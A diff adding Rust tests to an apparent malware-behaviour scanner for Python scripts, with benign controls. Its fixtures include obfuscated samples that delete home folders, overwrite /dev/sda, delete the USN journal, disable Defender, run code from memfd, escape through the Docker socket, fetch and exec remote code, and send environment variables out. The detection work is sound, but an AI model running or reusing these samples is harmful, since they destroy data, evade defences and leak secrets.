@@ -807,3 +807,244 @@ def get_code(path):
 "#;
     assert!(!rules(&run(importer)).contains(&"MB903"));
 }
+
+/// Folder names kept as lists of character codes in a table, decoded by a
+/// helper inside the loop that goes over the table, are the folders; a
+/// walk kept by hand (`stack.pop()`) covers the tree under its root.
+#[test]
+fn code_lists_decoded_in_a_loop_and_a_hand_kept_walk() {
+    let plain = r#"import os, shutil
+home = os.path.expanduser("~")
+for name in ["Documents", "Pictures"]:
+    shutil.rmtree(os.path.join(home, name))
+"#;
+    let coded = r#"import os, shutil
+_ROOTS = [[68, 111, 99, 117, 109, 101, 110, 116, 115], [80, 105, 99, 116, 117, 114, 101, 115]]
+def _s(codes):
+    return "".join(map(chr, codes))
+home = os.path.expanduser("~")
+for codes in _ROOTS:
+    shutil.rmtree(os.path.join(home, _s(codes)))
+"#;
+    assert_same(plain, coded);
+    let walked = r#"import os
+def _walk(top):
+    stack = [top]
+    while stack:
+        d = stack.pop()
+        with os.scandir(d) as it:
+            for e in it:
+                if e.is_dir(follow_symlinks=False):
+                    stack.append(e.path)
+                else:
+                    yield e.path
+for p in _walk(os.path.join(os.path.expanduser("~"), "Documents")):
+    os.remove(p)
+"#;
+    assert_eq!(run(walked).verdict, Verdict::Blocked);
+    // Controls: the same helper naming a cache folder, the same walk over
+    // the Downloads folder (tidying tools clear it).
+    let cache = coded.replace(
+        "[80, 105, 99, 116, 117, 114, 101, 115]",
+        "[46, 99, 97, 99, 104, 101]",
+    );
+    let cache = cache.replace("[68, 111, 99, 117, 109, 101, 110, 116, 115], ", "");
+    assert!(
+        run(&cache).verdict < Verdict::High,
+        "{:?}",
+        rules(&run(&cache))
+    );
+    let downloads = walked.replace("\"Documents\"", "\"Downloads\"");
+    assert!(run(&downloads).verdict < Verdict::High);
+}
+
+/// Text hidden by XOR with a one-byte key is the text: a device decoded
+/// that way and written to is the disk overwritten.
+#[test]
+fn text_hidden_by_xor() {
+    let plain = r#"import os
+fd = os.open("/dev/sda", os.O_WRONLY)
+os.write(fd, b"\x00" * 512)
+"#;
+    // "/dev/sda" XOR 0x5A, in hex, decoded by a helper in a loop and inline.
+    let xored = r#"import os
+def _x(h):
+    return bytes(b ^ 0x5A for b in bytes.fromhex(h)).decode()
+for h in ["753e3f2c75293e3b"]:
+    fd = os.open(_x(h), os.O_WRONLY)
+    os.write(fd, b"\x00" * 512)
+"#;
+    assert_same(plain, xored);
+    let inline = r#"import os
+dev = bytes([b ^ 0x5A for b in b"u>?,u)>;"]).decode()
+fd = os.open(dev, os.O_WRONLY)
+os.write(fd, b"\x00" * 512)
+"#;
+    assert_same(plain, inline);
+    // Control: the same decoder naming a log file of the script's own.
+    let own = xored.replace("753e3f2c75293e3b", "36353d753e3b2e3b");
+    assert!(run(&own).verdict < Verdict::High, "{:?}", rules(&run(&own)));
+}
+
+/// A call through `functools.partial` is a call of the function it wraps,
+/// and a PowerShell script passed base64-encoded is judged like one
+/// written out.
+#[test]
+fn partial_and_encoded_powershell() {
+    let plain = r#"import subprocess
+subprocess.run(["fsutil", "usn", "deletejournal", "/D", "C:"])
+"#;
+    let partial = r#"import functools, subprocess
+_quiet = functools.partial(subprocess.run, capture_output=True, text=True)
+_quiet(["fsutil", "usn", "deletejournal", "/D", "C:"])
+"#;
+    assert_same(plain, partial);
+    let shown = r#"import subprocess
+subprocess.run(["powershell", "-Command", "Set-MpPreference -DisableRealtimeMonitoring $true"])
+"#;
+    // The same line as UTF-16LE under base64, with the switch abbreviated.
+    let script = "Set-MpPreference -DisableRealtimeMonitoring $true";
+    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = format!(
+        "import subprocess\nsubprocess.run([\"powershell\", \"-NoP\", \"-enc\", \"{}\"])\n",
+        b64(&utf16)
+    );
+    assert_same(shown, &encoded);
+    // Controls: a partial of a harmless function; an encoded status query.
+    let harmless = partial.replace("subprocess.run", "print");
+    assert!(run(&harmless).verdict < Verdict::High);
+    let status: Vec<u8> = "Get-MpComputerStatus"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let query = encoded.replace(&b64(&utf16), &b64(&status));
+    assert!(
+        run(&query).verdict < Verdict::High,
+        "{:?}",
+        rules(&run(&query))
+    );
+}
+
+/// A fileless start: a program written into an anonymous memory file and
+/// run from its descriptor (MB973), also when the memfd call is found by a
+/// reversed name. Controls: the memory file used as a buffer, and a
+/// program run from /proc/self/fd without any memory file.
+#[test]
+fn program_run_from_memory() {
+    let plain = r#"import os
+fd = os.memfd_create("x", 0)
+os.write(fd, open("blob.bin", "rb").read())
+os.execv(f"/proc/self/fd/{fd}", ["x"])
+"#;
+    assert!(rules(&run(plain)).contains(&"MB973"));
+    let hidden = r#"import os
+make = getattr(os, "etaerc_dfmem"[::-1], None)
+fd = make("jit", 0)
+os.write(fd, open("blob.bin", "rb").read())
+if os.fork() == 0:
+    path = "/proc/self/fd/%d" % fd
+    os.execve(path, ["[kworker/1:3]"], {})
+"#;
+    assert!(
+        rules(&run(hidden)).contains(&"MB973"),
+        "{:?}",
+        rules(&run(hidden))
+    );
+    let by_fd = plain.replace(
+        "os.execv(f\"/proc/self/fd/{fd}\", [\"x\"])",
+        "os.fexecve(fd, [\"x\"], {})",
+    );
+    assert!(rules(&run(&by_fd)).contains(&"MB973"));
+    let buffer = plain.replace(
+        "os.execv(f\"/proc/self/fd/{fd}\", [\"x\"])",
+        "os.lseek(fd, 0, 0)",
+    );
+    assert!(!rules(&run(&buffer)).contains(&"MB973"));
+    let no_memfd = plain.replace(
+        "os.memfd_create(\"x\", 0)",
+        "os.open(\"blob.bin\", os.O_RDONLY)",
+    );
+    assert!(!rules(&run(&no_memfd)).contains(&"MB973"));
+}
+
+/// Names hidden by concatenation (`"Privi" + "leged"`) or character codes
+/// are read like the literal: the Docker socket and a privileged spec.
+/// Downloads through an opener (`build_opener().open`) are downloads, and
+/// the environment zipped into a buffer and sent in parts is sent.
+#[test]
+fn built_strings_openers_and_zipped_environment() {
+    let plain = r#"import json, socket
+s = socket.socket(socket.AF_UNIX)
+s.connect("/var/run/docker.sock")
+spec = {"Image": "alpine", "HostConfig": {"Privileged": True, "Binds": ["/:/h"]}}
+s.sendall(json.dumps(spec).encode())
+"#;
+    let built = r#"import json, socket
+_SOCK = "".join(map(chr, [47, 118, 97, 114, 47, 114, 117, 110, 47, 100, 111, 99, 107, 101, 114, 46, 115, 111, 99, 107]))
+s = socket.socket(socket.AF_UNIX)
+s.connect(_SOCK)
+spec = {"Image": "alpine", "HostConfig": {"Privi" + "leged": True, "Binds": ["/" + ":" + "/h"]}}
+s.sendall(json.dumps(spec).encode())
+"#;
+    assert_same(plain, built);
+    let fetched = r#"import urllib.request
+with urllib.request.urlopen("http://203.0.113.7/fc") as resp:
+    exec(resp.read())
+"#;
+    let opener = r#"import urllib.request
+opener = urllib.request.build_opener()
+opener.addheaders = [("User-Agent", "fontconfig/2.14")]
+with opener.open("http://203.0.113.7/fc") as resp:
+    exec(resp.read())
+"#;
+    assert_same(fetched, opener);
+    let sent = r#"import os, http.client
+conn = http.client.HTTPSConnection("storage.example.net")
+conn.request("PUT", "/x", body=str(dict(os.environ)))
+"#;
+    let zipped = r#"import os, io, zipfile, http.client
+buf = io.BytesIO()
+with zipfile.ZipFile(buf, "w") as zf:
+    zf.writestr("env.txt", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
+data = buf.getvalue()
+parts = [data[i:i + 4096] for i in range(0, len(data), 4096)]
+for idx, part in enumerate(parts):
+    conn = http.client.HTTPSConnection("storage.example.net")
+    conn.request("PUT", f"/x/{idx}", body=part)
+"#;
+    assert_same(sent, zipped);
+    // Controls: a split word that names nothing; the zip of a report.
+    let split = built.replace("\"Privi\" + \"leged\"", "\"Read\" + \"only\"");
+    let split = split.replace(
+        "\"/\" + \":\" + \"/h\"",
+        "\"/srv/data\" + \":\" + \"/data\"",
+    );
+    assert!(!rules(&run(&split)).contains(&"MB921"));
+    let report = zipped.replace(
+        "\"\\n\".join(f\"{k}={v}\" for k, v in os.environ.items())",
+        "\"ok\"",
+    );
+    assert!(!rules(&run(&report)).contains(&"MB911"));
+}
+
+/// Standard base64 with padding, for the tests' encoded scripts.
+fn b64(data: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in data.chunks(3) {
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(char::from(A[(n >> (18 - 6 * i)) as usize & 63]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
